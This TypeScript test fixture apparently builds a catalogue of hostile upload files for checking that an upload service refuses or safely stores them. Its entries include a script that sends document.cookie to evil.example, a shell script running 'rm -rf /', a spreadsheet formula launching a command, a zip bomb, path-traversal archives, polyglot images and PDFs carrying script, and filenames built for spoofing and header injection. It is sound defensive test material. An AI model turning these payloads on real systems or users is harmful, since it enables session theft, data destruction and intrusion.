import { deflateRawSync } from 'node:zlib'
import { pngOf, videoOf } from './evidence.ts'

/** `name`: refused before a byte is sent. `refused`: by the worker. `ready`: stored, as bytes that the product never opens. */
type Fate = 'name' | 'refused' | 'ready'
export type HostileFile = { what: string; name: string; bytes: Buffer; fate: Fate }

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
const html = `<!doctype html><html><body>${script}</body></html>`
const text = (content: string) => Buffer.from(content)
const hex = (content: string) => Buffer.from(content.replaceAll(' ', ''), 'hex')

/** An archive with one file; its declared size need not be true. */
function zipOf(name: string, content: Buffer, saidSize = content.length): Buffer {
  const packed = deflateRawSync(content)
  const entry = Buffer.from(name)
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(packed.length, 18)
  head.writeUInt32LE(saidSize >>> 0, 22)
  head.writeUInt16LE(entry.length, 26)
  return Buffer.concat([head, entry, packed])
}

const bomb = zipOf('zeros', Buffer.alloc(6 * 1024 * 1024))
const pdfWithScript = text(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF`)
const gifWithScript = Buffer.concat([text('GIF89a/*'), Buffer.alloc(20), text('*/=1;alert(1)//')])

function entry(fate: Fate, what: string, file: [name: string, bytes: Buffer]): HostileFile {
  return { fate, what, name: file[0], bytes: file[1] }
}

/** Files that execute when opened, under their own name. */
const active = (
  [
    ['a page', 'poc.html', text(html)],
    ['a page by another ending', 'poc.htm', text(html)],
    ['a page that is XML', 'poc.xhtml', text(html)],
    ['a drawing with script', 'logo.svg', text(svg)],
    ['a packed drawing', 'logo.svgz', text(svg)],
    ['a style sheet of XML', 'a.xml', text('<?xml-stylesheet href="javascript:alert(1)"?><a/>')],
    ['an archive of a page', 'a.mhtml', text(html)],
    ['a script', 'poc.js', text('alert(1)')],
    ['a program', 'tool.exe', hex('4d5a9000')],
    ['a shortcut', 'a.lnk', hex('4c000000')],
    ['a shell script', 'run.sh', text('#!/bin/sh\nrm -rf /')],
    ['a table with a formula', 'a.csv', text('=cmd|"/c calc"!A1')],
    ['a document with macros', 'a.docm', zipOf('vbaProject.bin', text('x'))],
    ['a Java archive', 'a.jar', zipOf('A.class', text('x'))],
    ['no ending', 'README', text('x')],
    ['an ending alone', '.png', pngOf()],
  ] as const
).map(([what, name, bytes]) => entry('name', what, [name, bytes]))

/** Names that hide the type, traverse directories, or break what prints them. */
const names = (
  [
    ['a reversed extension', 'foto\u202Egnp.exe'],
    ['a reversed extension that looks right', 'exe.\u202Egnp.png'],
    ['bidi isolates', 'a\u2066b\u2069.png'],
    ['a right-to-left mark', '\u200Fa.png'],
    ['a zero-width space', 'a\u200Bb.png'],
    ['a joiner', 'a\u200Db.png'],
    ['a byte order mark', '\uFEFFa.png'],
    ['a private-use character', 'a\uE000.png'],
    ['a lone surrogate', 'a\uD800.png'],
    ['NUL', 'a.php\u0000.png'],
    ['NUL at the end', 'a.png\u0000'],
    ['a new line', 'a\nContent-Type: text/html\n.png'],
    ['CR and LF', 'a\r\nSet-Cookie: x=1\r\n.png'],
    ['a line separator', 'a\u2028b.png'],
    ['a tab', 'a\tb.png'],
    ['ESC', 'a\u001B[2Jb.png'],
    ['DEL', 'a\u007F.png'],
    ['climbing', '../../../etc/passwd.png'],
    ['traversal by backslash', '..\\..\\boot.png'],
    ['a root', '/etc/cron.d/x.png'],
    ['a drive', 'C:\\x.png'],
    ['a stream', 'a.png:hidden.png'],
    ['a quote', 'a".png'],
    ['markup', '<img src=x onerror=alert(1)>.png'],
    ['a pipe', 'a|b.png'],
    ['a wildcard', '*.png'],
    ['a leading dot', '.htaccess.png'],
    ['a trailing dot', 'a.png.'],
    ['a trailing space', 'a.png '],
    ['only spaces', '   '],
    ['nothing', ''],
    ['300 letters', `${'a'.repeat(300)}.png`],
    ['255 bytes in few characters', `${'😀'.repeat(70)}.png`],
    ['ten thousand characters', `${'a'.repeat(10_000)}.png`],
    ['a second ending', 'foto.png.exe'],
  ] as const
).map(([what, name]) => entry('name', what, [name, pngOf()]))

/** Files whose content does not match the name. */
const liars = (
  [
    ['a page as a picture', 'a.png', text(html)],
    ['a drawing as a picture', 'a.png', text(svg)],
    ['a page as a photo', 'a.jpg', text(html)],
    ['a page as a paper', 'a.pdf', text(html)],
    ['a paper with something before it', 'a.pdf', Buffer.concat([text('<!--'), pdfWithScript])],
    ['a program as a video', 'a.mp4', hex('4d5a9000 03000000 04000000 ffff0000')],
    ['a picture as an archive', 'a.zip', pngOf()],
    ['an archive as a picture', 'a.png', bomb],
    ['a picture of which only a part came', 'a.png', hex('89504e47')],
    ['one byte', 'a.png', hex('89')],
    ['a wave as a picture', 'a.webp', text('RIFF\u0004\u0000\u0000\u0000WAVEfmt ')],
    ['a picture as text', 'a.txt', pngOf()],
    ['NUL in text', 'a.log', text('ok\u0000ok')],
    ['commands to the terminal', 'a.log', text('\u001B]0;x\u0007\u001B[2J')],
    ['invalid UTF-8', 'a.json', hex('7b22a0a1ff227d')],
    ['UTF-8 truncated at the end', 'a.md', hex('6869 e282')],
    ['UTF-16 text', 'a.txt', Buffer.from('\uFEFFhola', 'utf16le')],
    ['a capture that is none', 'a.pcap', text('GET / HTTP/1.1')],
    ['an empty archive', 'a.zip', Buffer.concat([hex('504b0506'), Buffer.alloc(18)])],
  ] as const
).map(([what, name, bytes]) => entry('refused', what, [name, bytes]))

/** Files that match their name and contain something else too: stored, and only ever served as downloads. */
const doubles = (
  [
    ['a picture that is a script too', 'a.gif', gifWithScript],
    ['a picture with a page behind it', 'a.png', Buffer.concat([pngOf(), text(html)])],
    ['a photo with a page in it', 'a.jpg', Buffer.concat([hex('ffd8fffe0100'), text(html)])],
    ['a paper with script', 'a.pdf', pdfWithScript],
    ['a bomb', 'a.zip', bomb],
    ['an archive that lies about its size', 'a.zip', zipOf('a', text('x'), 2 ** 32 - 1)],
    ['an archive with path traversal', 'a.zip', zipOf('../../../etc/passwd', text('root'))],
    ['a video with a page in it', 'a.mp4', Buffer.concat([videoOf(32), text(html)])],
    ['a page under the name of text', 'a.txt', text(html)],
    ['a drawing under the name of text', 'a.md', text(svg)],
    ['a program under another name before', 'setup.exe.png', pngOf()],
    ['right-to-left characters', 'صورة.png', pngOf()],
    ['a reserved name', 'CON.png', pngOf()],
    ['percent signs', '%2e%2e%2fa%00.png', pngOf()],
    ['a name of a prototype', '__proto__.json', text('{"__proto__":{"x":1}}')],
    ['brackets without end', 'a.json', text('['.repeat(100_000))],
  ] as const
).map(([what, name, bytes]) => entry('ready', what, [name, bytes]))

export const hostileFiles: readonly HostileFile[] = [...active, ...names, ...liars, ...doubles]
